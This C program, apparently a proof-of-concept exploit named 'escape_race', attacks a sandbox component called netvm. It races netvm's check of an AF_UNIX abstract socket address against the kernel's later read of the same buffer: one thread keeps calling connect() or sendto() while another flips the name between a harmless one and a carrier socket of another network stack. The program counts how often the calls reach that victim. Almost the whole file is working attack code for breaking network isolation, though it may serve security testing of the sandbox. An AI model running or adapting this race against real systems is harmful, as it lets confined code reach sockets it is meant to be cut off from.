/* Races netvm's check of a socket address against the kernel's own read of it.
 *
 *   escape_race NAMES_FILE
 *
 * NAMES_FILE holds, in hex, the abstract name of a stream carrier on its first
 * line and of a datagram carrier on its second (names of another stack). One
 * thread keeps calling connect(), then sendto(MSG_DONTWAIT), on a native AF_UNIX
 * datagram socket with one sockaddr_un buffer, while a second thread flips the
 * buffer's name between the datagram carrier's and a harmless name that nothing
 * is bound to (its first two bytes changed). A call that succeeds (or finds the
 * victim's queue full: EAGAIN) reached the victim; the harmless name only ever
 * gives ECONNREFUSED. Each phase flips 100,000 times (two stores each) or stops
 * after 5 seconds, and prints "PHASE: swaps=S calls=N reached=R". */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stddef.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SWAPS 100000
#define TIME_CAP_NS (5LL * 1000 * 1000 * 1000)
#define NAME_LEN 13

static struct sockaddr_un address;
static socklen_t address_len;
static unsigned short victim_head, harmless_head; /* the name's first two bytes */
static atomic_int done;
static long swaps;

static long long now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000LL + t.tv_nsec;
}

static void spin(long long ns)
{
    long long until = now_ns() + ns;
    while (now_ns() < until)
        __asm__ volatile("pause");
}

static void set_head(unsigned short head)
{
    __atomic_store_n((unsigned short *)&address.sun_path[1], head, __ATOMIC_RELAXED);
}

static void *flipper(void *arg)
{
    long long deadline = *(long long *)arg;
    for (swaps = 0; swaps < SWAPS && now_ns() < deadline; swaps++) {
        set_head(victim_head);
        spin(1000);
        set_head(harmless_head);
        spin(1000);
    }
    atomic_store(&done, 1);
    return NULL;
}

static void race(const char *phase, int sending)
{
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (fd < 0) {
        printf("%s: socket: %s\n", phase, strerror(errno));
        exit(1);
    }
    set_head(harmless_head);
    atomic_store(&done, 0);
    long long deadline = now_ns() + TIME_CAP_NS;
    pthread_t thread;
    if (pthread_create(&thread, NULL, flipper, &deadline) != 0) {
        printf("%s: pthread_create failed\n", phase);
        exit(1);
    }
    long calls = 0, reached = 0;
    while (!atomic_load(&done)) {
        long ret = sending ? sendto(fd, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&address,
                                    address_len)
                           : connect(fd, (struct sockaddr *)&address, address_len);
        calls++;
        if (ret >= 0 || errno == EAGAIN)
            reached++;
    }
    pthread_join(thread, NULL);
    close(fd);
    printf("%s: swaps=%ld calls=%ld reached=%ld\n", phase, swaps, calls, reached);
    fflush(stdout);
}

int main(int argc, char **argv)
{
    char lines[2][64];
    FILE *f = argc == 2 ? fopen(argv[1], "r") : NULL;
    if (!f || fscanf(f, "%63s %63s", lines[0], lines[1]) != 2 ||
        strlen(lines[1]) != 2 * NAME_LEN) {
        fprintf(stderr, "usage: escape_race NAMES_FILE (two hex names)\n");
        return 2;
    }
    fclose(f);
    address.sun_family = AF_UNIX;
    for (int i = 0; i < NAME_LEN; i++)
        sscanf(lines[1] + 2 * i, "%2hhx", (unsigned char *)&address.sun_path[1 + i]);
    address_len = offsetof(struct sockaddr_un, sun_path) + 1 + NAME_LEN;
    memcpy(&victim_head, &address.sun_path[1], 2);
    memcpy(&harmless_head, "zz", 2);
    race("connect", 0);
    race("sendto", 1);
    return 0;
}
